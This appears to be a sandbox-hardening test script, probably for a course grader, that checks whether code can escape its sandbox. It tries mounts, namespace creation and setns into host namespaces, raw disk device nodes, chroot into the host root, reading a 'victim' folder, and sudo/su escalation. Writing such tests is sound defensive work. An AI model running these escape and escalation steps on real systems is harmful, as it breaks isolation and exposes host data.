# tries: the sandbox is left: mounts, chroot, new namespaces, setns to the host's, device nodes, raised privileges
# must: *=not_attempted
# gains: 0

# %% own
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)

def attempt(what, result):
    print(what, result, os.strerror(ctypes.get_errno()) if result else "")

attempt("mount proc", libc.mount(b"proc", b"/tmp", b"proc", 0, None))
attempt("bind root", libc.mount(b"/", b"/mnt", None, 4096, None))
attempt("remount", libc.mount(None, b"/usr", None, 32 | 4096, None))
attempt("umount", libc.umount2(b"/tmp", 2))
attempt("setuid", libc.setuid(0))
attempt("new user namespace", libc.unshare(0x10000000))
attempt("new mounts", libc.unshare(0x00020000))
for name in ("mnt", "pid", "user", "net"):
    for pid in (1, os.getppid()):
        try:
            attempt(f"setns {name} of {pid}", libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0))
        except OSError as error:
            print(name, pid, error.strerror)
for path in ("/tmp/disk", "disk"):
    try:
        os.mknod(path, 0o60666, os.makedev(8, 0))
        print(open(path, "rb").read(16).hex())
    except OSError as error:
        print(path, error.strerror)
try:
    os.chroot("/proc/1/root")
    print(os.listdir("@COURSE@"))
except OSError as error:
    print("chroot", error.strerror)
for folder in ("@COURSE@/source/01_victim", "/mnt@COURSE@/source/01_victim"):
    if os.path.isdir(folder):
        print([open(os.path.join(folder, name), "rb").read().hex() for name in os.listdir(folder)])
print(subprocess.run("cat /proc/self/status | grep -E 'Cap|NoNew|Seccomp'; sudo -n id; su -c id", shell=True,
                     capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL).stdout)
